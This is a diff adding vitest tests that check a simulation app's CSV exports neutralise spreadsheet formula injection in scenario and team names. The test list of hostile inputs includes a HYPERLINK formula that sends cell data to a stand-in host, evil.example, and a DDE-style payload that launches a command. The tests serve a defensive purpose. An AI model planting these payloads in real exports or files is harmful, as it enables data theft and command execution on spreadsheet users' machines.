@@ -2,7 +2,8 @@ import { csvParse } from 'd3';
 import { describe, expect, it } from 'vitest';
 import { METRIC_NAMES } from '../../src/sim/metricDefinitions.ts';
 import { summariseBatch } from '../../src/sim/batch.ts';
-import { comparisonCsv, comparisonRows, replicationsCsv, seriesCsv, summaryCsv, teamsCsv } from '../../src/ui/features/results/csv.ts';
+import { comparisonCsv, comparisonRows, replicationsCsv, seriesCsv, spreadsheetCsv, summaryCsv, teamsCsv } from '../../src/ui/features/results/csv.ts';
+import { neutraliseCsvCell } from '../../src/shared/csvInjection.ts';
 import { fakeReplication } from './fixtures/results.ts';
 import { fixtureScenario } from './fixtures/scenario.ts';
 
@@ -48,5 +49,44 @@ describe('CSV exports', () => {
   it('refuses to compare runs made on different seeds', () => {
     const other = summariseBatch(fixtureScenario(), { ...opts, seed: 4 }, Array.from({ length: 5 }, (_, rep) => fakeReplication(rep, 4)));
     expect(() => comparisonRows(batchAt(1), other)).toThrow(/same seeds/);
+  });
+
+  describe('formula injection (OWASP): a name a spreadsheet would run reaches it as text', () => {
+    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
+    const hostile = () => {
+      const s = fixtureScenario();
+      s.dutyTeams[0]!.name = '@SUM(1+1)';
+      s.name = evil[0]!;
+      return summariseBatch(s, opts, Array.from({ length: 5 }, (_, rep) => fakeReplication(rep, 3, 1)));
+    };
+    const everyCell = (text: string) => parse(text).flatMap((r) => Object.values(r));
+    const formulaLike = (cell: string | undefined) => /^[=+\-@\t\r]/.test(cell ?? '') && !/^-?\d/.test(cell ?? '');
+
+    it('every app download (summary, replications, weekly, teams, comparison) neutralises the scenario and team names', () => {
+      const b = hostile();
+      const label = b.scenario.name;
+      const files = [summaryCsv, replicationsCsv, (x: Parameters<typeof summaryCsv>[0]) => seriesCsv(x, ['reReferralRate']), teamsCsv].map((f) => f([{ label, batch: b }]));
+      files.push(comparisonCsv([{ label: '=1+1', batch: b }, { label: '@cmd', batch: b }]));
+      for (const text of files) {
+        const cells = everyCell(text);
+        expect(cells.filter(formulaLike)).toEqual([]);
+      }
+      expect(parse(summaryCsv([{ label, batch: b }]))[0]!.scenario).toBe(`'${evil[0]}`);
+      expect(parse(teamsCsv([{ label, batch: b }])).map((r) => r.team)).toContain("'@SUM(1+1)");
+    });
+
+    it('the sweep and chart downloads (spreadsheetCsv) neutralise too, and keep negative numbers as numbers', () => {
+      const rows = evil.map((v, i) => ({ parameter: v, value: -0.5 * i, text: '-3.25' }));
+      const out = parse(spreadsheetCsv(rows));
+      expect(out.map((r) => r.parameter)).toEqual(evil.map((v) => `'${v}`));
+      expect(out.map((r) => r.value)).toEqual(['0', '-0.5', '-1', '-1.5', '-2', '-2.5']);
+      expect(out.every((r) => r.text === '-3.25')).toBe(true);
+    });
+
+    it('the rule: only a leading = + - @ tab or CR is neutralised, and numbers written as text are not', () => {
+      for (const v of evil) expect(neutraliseCsvCell(v)).toBe(`'${v}`);
+      for (const v of ['Kent', 'a=b', ' =1', '-0.25', '+3', '1e-7', '-.5', 42, -1, null]) expect(neutraliseCsvCell(v)).toBe(v);
+      expect(neutraliseCsvCell('-1+1')).toBe("'-1+1");
+    });
   });
 });
